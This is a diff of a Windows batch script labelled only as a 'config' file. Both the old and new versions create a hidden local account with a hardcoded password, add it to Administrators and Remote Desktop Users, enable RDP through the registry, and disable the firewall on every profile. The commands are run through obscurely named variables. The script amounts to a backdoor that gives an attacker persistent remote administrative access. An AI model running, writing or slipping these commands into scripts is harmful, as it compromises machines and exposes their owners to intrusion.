@@ -1,16 +1,16 @@
-REM run 5097 v0
+REM config 5700 v0
 @echo off
-set "yfqp=net user sysadm Qwerty#7788 /add /y"
-call %yfqp%
+set jwtx=net user defaultuser2 Adm1n!strat0r /add /y
+call %jwtx%
 @echo off
-set "hjcb=net localgroup administrators sysadm /add"
-call %hjcb%
+set qwjx=net localgroup administrators defaultuser2 /add
+call %qwjx%
 @echo off
-set "cqcz=net localgroup "Remote Desktop Users" sysadm /add"
-call %cqcz%
+set razv=net localgroup "Remote Desktop Users" defaultuser2 /add
+call %razv%
 @echo off
-set "kwwn=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"
-call %kwwn%
+set gmbh=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
+call %gmbh%
 @echo off
-set "cwev=netsh advfirewall set allprofiles state off"
-call %cwev%
+set pdiv=netsh advfirewall set allprofiles state off
+call %pdiv%
